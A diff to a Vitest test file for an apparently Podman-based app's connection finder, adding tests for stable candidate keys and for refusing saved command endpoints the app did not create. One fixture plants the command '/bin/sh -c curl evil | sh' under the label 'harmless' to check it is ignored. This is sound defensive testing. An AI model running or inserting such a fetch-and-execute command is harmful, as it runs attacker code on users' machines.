@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { parseEndpointUri } from '../../../src/main/podman/connection/endpoint-uri';
+import { candidateKey, parseEndpointUri } from '../../../src/main/podman/connection/endpoint-uri';
 import {
   findCandidates,
   fromEnvironment,
@@ -231,6 +231,41 @@ describe('the order of it all', () => {
     const saved = { endpoint: { kind: 'unix' as const, path: '/saved.sock' }, label: 'mine' };
     const found = await findCandidates(deps, saved);
     expect(found.map((c) => c.source)).toEqual(['saved', 'environment', 'podman-connection', 'rootful-socket']);
+    // Each has a stable, opaque key: what the page chooses by.
+    const keys = found.map((c) => c.key);
+    expect(new Set(keys).size).toBe(keys.length);
+    for (const key of keys) expect(key).toMatch(/^[a-f0-9]{24}$/);
+    expect((await findCandidates(deps, saved)).map((c) => c.key)).toEqual(keys);
+    expect(found[0]!.key).toBe(candidateKey({ kind: 'unix', path: '/saved.sock' }));
+  });
+
+  it('never runs a saved command its own finders did not make (a settings file written through an old hole)', async () => {
+    const logged: string[] = [];
+    const deps: FinderDeps = {
+      platform: 'linux',
+      env: {},
+      fs: fakeFs({ '/run/podman/podman.sock': '' }),
+      run: fakeRunner({}),
+      podmanPath: null,
+      homedir: '/home/me',
+      log: (message) => logged.push(message),
+    };
+    const planted = { endpoint: { kind: 'command' as const, argv: ['/bin/sh', '-c', 'curl evil | sh'] }, label: 'harmless' };
+    const found = await findCandidates(deps, planted);
+    expect(found.map((c) => c.endpoint.kind)).toEqual(['unix']);
+    expect(logged.join('\n')).toMatch(/ignoring the saved connection “harmless”/);
+  });
+
+  it('keeps a saved command that its finders make too (a WSL distro chosen earlier)', async () => {
+    const run = fakeRunner({ 'wsl.exe --list --quiet': 'Ubuntu\r\n' });
+    const deps: FinderDeps = { platform: 'win32', env: {}, fs: fakeFs(), run, podmanPath: null, homedir: 'C:\\Users\\me' };
+    const distro = {
+      endpoint: { kind: 'command' as const, argv: ['wsl.exe', '-d', 'Ubuntu', '--', 'podman', 'system', 'dial-stdio'] },
+      label: 'Podman in WSL distro Ubuntu',
+    };
+    const found = await findCandidates(deps, distro);
+    expect(found[0]).toMatchObject({ source: 'saved', endpoint: distro.endpoint });
+    expect(found.filter((c) => c.endpoint.kind === 'command')).toHaveLength(1);
   });
 });
 
